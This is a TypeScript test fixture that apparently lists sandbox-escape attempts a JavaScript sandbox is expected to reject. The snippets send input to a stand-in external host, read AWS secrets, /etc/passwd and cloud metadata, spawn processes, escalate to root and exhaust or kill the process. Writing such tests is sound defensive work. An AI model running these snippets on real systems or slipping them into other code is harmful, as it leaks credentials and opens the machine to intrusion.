import { type AttackFamily, acting } from "./attack.js";

/** Ways to take data away, to gain rights, or to use up the machine, as SPEC's risks name them. */
export const exfiltration: AttackFamily = {
  "sends to another host": acting(
    "threw",
    "fetch('https://external.example/', { method: 'POST', body: input }); return 1;",
  ),
  "sends by a request": acting(
    "threw",
    "const r = new XMLHttpRequest(); r.open('POST', '//external.example'); r.send(input); return 1;",
  ),
  "sends by a socket": acting("threw", "new WebSocket('wss://external.example').send(input); return 1;"),
  "sends by a beacon": acting("threw", "navigator.sendBeacon('//external.example', input); return 1;"),
  "sends by a name it looks up": acting(
    "threw",
    "require('dns').lookup(input + '.external.example', () => {}); return 1;",
  ),
  "sends by printing": acting("threw", "console.log(input); return 1;"),
  "sends to the parent process": acting("threw", "process.send({ status: 'ok', result: [2] }); return 1;"),
  "reads the environment": acting("threw", "return process.env.AWS_SECRET_ACCESS_KEY;"),
  "reads a file": acting("threw", "return require('fs').readFileSync('/etc/passwd', 'utf8');"),
  "reads a file, as QuickJS does": acting("threw", "return std.loadFile('/etc/passwd');"),
  "reads metadata of the machine": acting("threw", "return new EventSource('http://169.254.169.254/');"),
  "reads the memory of the process": acting("threw", "return require('v8').getHeapSnapshot();"),
  "starts a process": acting("threw", "return require('child_process').execSync('id');"),
  "starts a process, as QuickJS does": acting("threw", "return os.exec(['id']);"),
  "starts a thread": acting("threw", "new Worker('data:,for(;;);'); return 1;"),
  "calls the system": acting("threw", "os.system('id'); return 1;"),
  "becomes another user": acting("threw", "process.setuid(0); return 1;"),
  "loads native code": acting("threw", "process.dlopen({ exports: {} }, '/tmp/x.node'); return 1;"),
  "ends the process": acting("threw", "process.exit(0);"),
  "kills its parent": acting("threw", "process.kill(process.ppid); return 1;"),
  aborts: acting("threw", "process.abort();"),
  "binds what Node keeps inside": acting("threw", "return process.binding('spawn_sync');"),
  "compiles WebAssembly": acting(
    "threw",
    "return new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]));",
  ),
  "waits on shared memory": acting("threw", "Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0); return 1;"),
  sleeps: acting("threw", "os.sleep(1e9); return 1;"),
  "stops for a debugger": acting(["ok", "threw"], "debugger; return 1;", 1),
};
